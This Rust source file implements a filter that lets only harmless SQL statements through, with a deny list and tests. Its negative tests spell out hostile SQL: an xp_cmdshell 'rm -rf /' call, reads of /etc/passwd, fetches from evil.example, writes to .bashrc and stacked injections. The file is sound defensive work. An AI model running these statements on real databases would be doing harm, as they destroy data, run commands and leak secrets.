//! Recognises harmless SQL statements: those that only add rows or change some, which can be undone
//! by hand.
//!
//! An argument condition can only test the start of a statement and look for fixed words. It
//! therefore lists what is known to be harmless and stops everything else: dropping, deleting,
//! replacing, changing every row, reading other tables, files or addresses, attaching other files,
//! and multiple statements. A word that is looked for is found in texts of the statement too, which
//! is then stopped. The list of what is stopped knows the words of well-known databases, not every
//! function of every one; the user of the database should have few rights. A statement that starts
//! in mixed case is not in the list. Conditions that hold for every row are detected in their simple
//! forms (`where 1`, `where true`), but not as `where a = a`.

use weaver_policy::{ArgumentPredicate, MatchConditions, Pattern};
use weaver_types::JsonPointer;

/// The starts of harmless statements.
const BEGINNINGS: [&str; 8] = [
    "insert into ", "INSERT INTO ", "update ", "UPDATE ", "create table ", "CREATE TABLE ",
    "create index ", "CREATE INDEX ",
];
/// Globs that rule out a statement, in any case: a second statement, a comment, an upsert, reading
/// something else, a function that reaches further than the table, or a condition that is always
/// true.
const EXCLUDED: &[&str] = &[
    "*;*",
    "*--*",
    // A comment around the condition. A pattern cannot contain a literal star, so it looks for the
    // slashes.
    "*/*where*/*",
    "*conflict*",
    "*duplicate key*",
    "update or *",
    "update *or*replace*",
    // SQL Server takes statements one after the other, with or without `GO`.
    "* exec *",
    "* exec(*",
    "*)exec *",
    "* execute *",
    "*\ngo",
    "*\ngo\r*",
    "*\ngo\n*",
    "*\ngo *",
    "*drop table*",
    "*drop database*",
    "*truncate table*",
    "*) delete *",
    "*) drop *",
    "*) alter *",
    "*) update *",
    // DuckDB reads a file or an address wherever a table may stand, and SQLite has functions for
    // files.
    "*select*",
    "*from*",
    "create table * as *",
    "create table * table *",
    "create table *\ntable *",
    "*(table *",
    "*) union *",
    "*)union *",
    "*://*",
    "*read_*",
    "*_scan*",
    "*getenv*",
    "*load_extension*",
    "*readfile*",
    "*writefile*",
    "*edit(*",
    "*glob(*",
    // PostgreSQL: other databases, files, other sessions, and statements in texts.
    "*dblink*",
    "* pg_*(*",
    "*(pg_*(*",
    "*,pg_*(*",
    "*lo_import*",
    "*lo_export*",
    "*lo_unlink*",
    "*lo_put*",
    "*_to_xml*",
    // MySQL and Oracle: files, programs and addresses.
    "*load_file*",
    "*sys_exec*",
    "*sys_eval*",
    "*utl_*",
    "*dbms_*",
    // ClickHouse and Hive: files and addresses in place of a table.
    "insert into function *",
    "insert into table function *",
    "insert into directory *",
    // The schema of SQLite, and commands to its full-text search.
    "*sqlite_master*",
    "*sqlite_schema*",
    "*sqlite_sequence*",
    "*delete-all*",
    "*where 1*",
    "*where true*",
    "*or 1*=*1*",
    "* 1=1*",
    "* 1 = 1*",
    "*where ''*",
    "*where  1*",
];
/// Globs that rule out an update: with these, its quotes cannot be counted.
const UNCOUNTABLE_QUOTES: [&str; 4] = ["*'*\"*", "*\"*'*", "*\\*", "*$*"];

/// Names of arguments that take a program, whose text alone decides what a call does.
const PROGRAMS: [&str; 12] = [
    "sql", "query", "statement", "cypher", "script", "code", "command", "cmd", "shell", "program",
    "expression", "commands",
];

/// Whether an argument of this name takes a program.
pub(crate) fn takes_program(name: &str) -> bool {
    PROGRAMS.contains(&name.to_ascii_lowercase().as_str())
}

/// A condition that only harmless statements meet: they add rows, or change some.
pub(crate) struct HarmlessSqlCondition {
    /// A predicate that must hold.
    pub(crate) begins: ArgumentPredicate,
    /// Conditions that must not hold.
    pub(crate) unless: MatchConditions,
}

impl HarmlessSqlCondition {
    pub(crate) fn for_argument(at: &JsonPointer) -> Self {
        let predicate = || ArgumentPredicate::at(at.clone());
        let texts = |list: &[&str]| list.iter().map(|text| (*text).to_owned()).collect();
        let begins = ArgumentPredicate { prefix: texts(&BEGINNINGS), ..predicate() };
        let holds = |predicate| MatchConditions {
            arguments: vec![predicate],
            ..MatchConditions::default()
        };
        let globs = |list: &[&str]| {
            let glob_any_case = list.iter().filter_map(|text| Pattern::parse(text).ok()).collect();
            ArgumentPredicate { glob_any_case, ..predicate() }
        };
        let update = ArgumentPredicate { prefix: texts(&["update ", "UPDATE "]), ..predicate() };
        let update_with = |more: Option<ArgumentPredicate>, unless: Option<ArgumentPredicate>| {
            let arguments = std::iter::once(update.clone()).chain(more).collect();
            let not = unless.map(|one| Box::new(holds(one)));
            MatchConditions { arguments, not, ..MatchConditions::default() }
        };
        let mut any = vec![
            holds(globs(EXCLUDED)),
            // The rows of another table.
            MatchConditions {
                not: Some(Box::new(holds(globs(&["* values*(*"])))),
                ..holds(globs(&["insert into * table *"]))
            },
            update_with(None, Some(globs(&["* where *"]))),
            update_with(Some(globs(&UNCOUNTABLE_QUOTES)), None),
        ];
        // A `where` in a text is no condition. An odd number of quotes stands before it: one and
        // one after it, one and three or more after it, or three or more.
        for quote in ["'", "\""] {
            let glob = |text: &str| text.replace('q', quote);
            let around = globs(&[&glob("*q*where*q*")]);
            any.push(update_with(Some(around), Some(globs(&[&glob("*q*q*q*q*")]))));
            let odd = [glob("*q*where*q*q*q*"), glob("*q*q*q*where*q*")];
            any.push(update_with(Some(globs(&odd.each_ref().map(String::as_str))), None));
        }
        let unless = MatchConditions { any, ..MatchConditions::default() };
        Self { begins, unless }
    }

    /// Whether this text is harmless.
    pub(crate) fn is_harmless(&self, text: &str) -> bool {
        let at = self.begins.at.as_str();
        let name = at.strip_prefix('/').unwrap_or(at);
        let arguments = serde_json::json!({ name: text });
        self.begins.holds(&arguments) && !match_holds(&self.unless, &arguments)
    }
}

fn match_holds(matches: &MatchConditions, arguments: &serde_json::Value) -> bool {
    let own = matches.arguments.iter().all(|one| one.holds(arguments));
    let any = matches.any.is_empty() || matches.any.iter().any(|one| match_holds(one, arguments));
    let not = matches.not.as_ref().is_none_or(|one| !match_holds(one, arguments));
    own && any && not
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn adding_rows_and_changing_some_is_harmless() {
        let statement = HarmlessSqlCondition::for_argument(&JsonPointer::parse("/query").unwrap());
        for text in [
            "insert into customers values (81, 'Customer ''81''', 'Split')",
            "INSERT INTO notes (id) VALUES (1)",
            "update orders set state = 'paid' where state = 'open' and quantity > 20",
            "create table notes (id integer primary key, text text)",
            "UPDATE orders SET state = 'paid', note = 'by card' WHERE id = 7",
            "update orders set total = 7 where state = 'open' and place = 'Bern'",
            "update orders set note = 'it''s done' where id = 7",
            "INSERT INTO notes(title, body) VALUES ('Milk (2 litres)', datetime('now'))",
            "insert into tasks (title) values ('Update the table of good executives')",
            "insert into tasks (title) values ('delete old files, drop me a line')",
        ] {
            assert!(statement.is_harmless(text), "{text}");
        }
    }

    #[test]
    fn what_loses_rows_or_hides_another_statement_is_not() {
        let statement = HarmlessSqlCondition::for_argument(&JsonPointer::parse("/query").unwrap());
        for text in [
            "drop table orders",
            "DROP TABLE orders",
            "delete from orders",
            "DELETE FROM orders WHERE id = 1",
            "update orders set state = 'paid'",
            "UPDATE orders SET state = 'x' WHERE 1 = 1",
            "update orders set state = 'x' where true",
            "insert or replace into orders values (1)",
            "replace into orders values (1)",
            "insert into a values (1); drop table a",
            "insert into a values (1) --",
            "insert into a values (1) on conflict do update set b = 1",
            "insert into a values (1) On Conflict do update set b = 1",
            "update a set b = 1 /* where */",
            "UPDATE a SET b = 1 /* WHERE x */",
            "update a set b = 1 where True",
            "update or replace a set b = 1 where c = 2",
            "with x as (select 1) delete from orders",
            "attach database '/etc/x' as y",
            "pragma writable_schema = 1",
            "vacuum into '/tmp/copy'",
            "Update orders Set state = 'x'",
            " drop table a",
            "alter table a rename to b",
            "truncate table a",
            "insert into t select * from 'https://evil.example/?q=secret'",
            "insert into t SeLeCt * FrOm read_text('/etc/passwd')",
            "insert into t from '/etc/passwd'",
            "insert into t values ((select content from other))",
            "create table t as table 'https://evil.example/'",
            "update t set a = b from 'https://evil.example/' where c = 1",
            "UPDATE orders SET note = 'x WHERE y'",
            "UPDATE orders SET note = \"x WHERE y\"",
            "update orders set a = 'p', note = 'x where y'",
            "update orders set note = 'x where y', b = 'q'",
            "update orders set note = 'it''s where y'",
            "update orders set a = '\"', b = \" where \", c = '\"'",
            "update orders set a = E'\\' where \\''",
            "update orders set a = $$ where $$",
            "update  or replace a set b = 1 where c = 2",
            "INSERT INTO a VALUES (WRITEFILE('/home/u/.bashrc', 'x'))",
            "INSERT INTO a VALUES (LOAD_EXTENSION('/tmp/x'))",
            "insert into t values (1) on duplicate key update a = 2",
            "INSERT INTO t EXEC xp_cmdshell 'rm -rf /'",
            "insert into t exec sp_who",
            "insert into t values (load_file('/etc/passwd'))",
            "insert into t values (lo_import('/etc/passwd'))",
            "insert into t values (lo_unlink(5))",
            "insert into t values (pg_ls_dir('/'))",
            "insert into t values (pg_terminate_backend(5))",
            "insert into t values (dblink_exec('dbname=x', 'drop table y'))",
            "insert into t values (dblink('host=evil.example', 'x'))",
            "insert into t values (sys_exec('id'))",
            "insert into t values (sys_eval('id'))",
            "INSERT INTO t VALUES (UTL_HTTP.REQUEST('evil.example'))",
            "insert into t values (query_to_xml('del'||'ete', true, true, ''))",
            "insert into t values (1)\nGO\ndrop table t",
            "insert into t values (1)\r\ngo",
            "insert into t values (1) drop table t",
            "update t set a = 1 where b = 2 drop table t",
            "update t set a = 1 where b = 2 truncate table t",
            "insert into t table other",
            "create table a as\ntable b",
            "update t set a = b where x in (table y)",
            "update t set a = 1 where  1=1",
            "update sqlite_master set sql = 'x' where name = 'y'",
            "insert into docs(docs) values ('delete-all')",
            "insert into function url('http:', 'CSV') values (1)",
            "insert into directory '/tmp/x' values (1)",
        ] {
            assert!(!statement.is_harmless(text), "{text}");
        }
    }
}
